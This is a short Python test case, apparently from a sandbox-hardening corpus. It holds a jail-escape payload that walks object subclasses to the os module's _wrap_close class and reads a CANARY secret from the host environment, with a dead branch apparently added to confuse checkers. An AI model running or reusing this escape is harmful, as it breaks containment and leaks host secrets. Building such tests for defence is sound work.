# technique: find what the host knows in the memory of a worker
# source: folklore of jail CTFs
# layers: policy, cage
# expect: rejected CHK110
# cage: Succeeded
# success: returns the secret
def reconcile(obj, ctx):
    for one in type(type).__subclasses__(object) if False else object.__subclasses__():
        if one.__name__ == "_wrap_close":
            return one.__init__.__globals__["environ"].get("CANARY")
